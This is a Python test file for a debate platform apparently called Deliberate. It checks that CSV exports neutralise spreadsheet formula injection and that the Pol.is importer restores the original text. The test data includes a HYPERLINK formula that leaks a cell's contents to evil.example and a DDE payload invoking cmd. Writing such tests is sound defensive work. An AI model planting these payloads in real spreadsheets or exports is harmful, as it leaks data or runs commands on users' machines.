"""Spreadsheet formula injection (issue 12, item 7): a text cell that a spreadsheet would run
as a formula is exported with one quote in front (OWASP's advice), and Deliberate's Pol.is
reader takes it off again, so an export re-imports to the same texts."""

import csv
import io
import shutil

import pytest
from sqlalchemy import select

from deliberate.extensions import db
from deliberate.models import Argument
from deliberate.moderation import services as moderation
from deliberate.moderation.models import NoteKind, Role
from deliberate.polis.files import restore
from deliberate.polis.importer import import_conversation
from deliberate.results import exports

from .conftest import standing
from .test_polis_import import BREXIT

RISKY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Read more")',
    "+1 this point, then see the rest",
    "-2 per cent, said the minister",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed text that starts with a tab",
    "'=quoted already, stays exact",
]


def cells(chunks) -> list[dict]:
    return list(csv.DictReader(io.StringIO("".join(chunks))))


def test_texts_that_start_like_formulas_are_neutralised(app, make_user, make_debate, make_argument):
    debate = make_debate()
    for body in RISKY:
        make_argument(debate, body=body)
    mediator = make_user(pseudonym="=cmd() mediator", email="m@example.org")
    moderation.appoint_accepted(
        standing(debate.organiser, debate), debate, mediator.pseudonym, Role.MEDIATOR
    )
    moderation.post_note(standing(mediator, debate), debate, NoteKind.SUMMARY, "A summary note.")
    db.session.commit()
    bodies = [row["comment-body"] for row in cells(exports.comments_csv(debate))]
    assert bodies == ["'" + body for body in RISKY]
    assert [restore(body) for body in bodies] == RISKY
    log = cells(exports.moderation_log_csv(debate))
    assert "'=cmd() mediator" in {row["actor"] for row in log}
    assert not any(
        str(value).startswith(("=", "+", "-", "@")) for row in log for value in row.values()
    )


def test_plain_text_and_numbers_are_left_alone():
    assert exports.neutralise("A plain argument.") == "A plain argument."
    assert exports.neutralise(-1) == -1  # a vote is not a formula
    assert exports.neutralise("") == ""
    assert exports.neutralise("'not a formula'") == "'not a formula'"


@pytest.mark.parametrize("body", RISKY[:-1])
def test_an_export_imports_back_to_the_same_texts(app, tmp_path, body):
    """Pol.is data: import, put a risky text in, export, import the export: same texts.
    (A text of Pol.is's own that starts with a quote before a formula's start would lose
    that quote on its first import: polis/files.py says so.)"""
    source = tmp_path / "source"
    shutil.copytree(BREXIT, source)
    with (source / "comments.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    rows[0]["comment-body"] = body
    with (source / "comments.csv").open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    first = import_conversation(source)
    exported = tmp_path / "exported"
    shutil.copytree(source, exported)
    (exported / "comments.csv").write_text("".join(exports.comments_csv(first)), encoding="utf-8")
    written = cells([(exported / "comments.csv").read_text(encoding="utf-8")])
    assert "'" + body in [row["comment-body"] for row in written]
    again = import_conversation(exported)
    texts = {}
    for debate in (first, again):
        texts[debate.id] = {
            a.external_id: a.body
            for a in db.session.scalars(select(Argument).where(Argument.debate_id == debate.id))
        }
    assert texts[first.id] == texts[again.id]
    assert texts[first.id][int(rows[0]["comment-id"])] == body
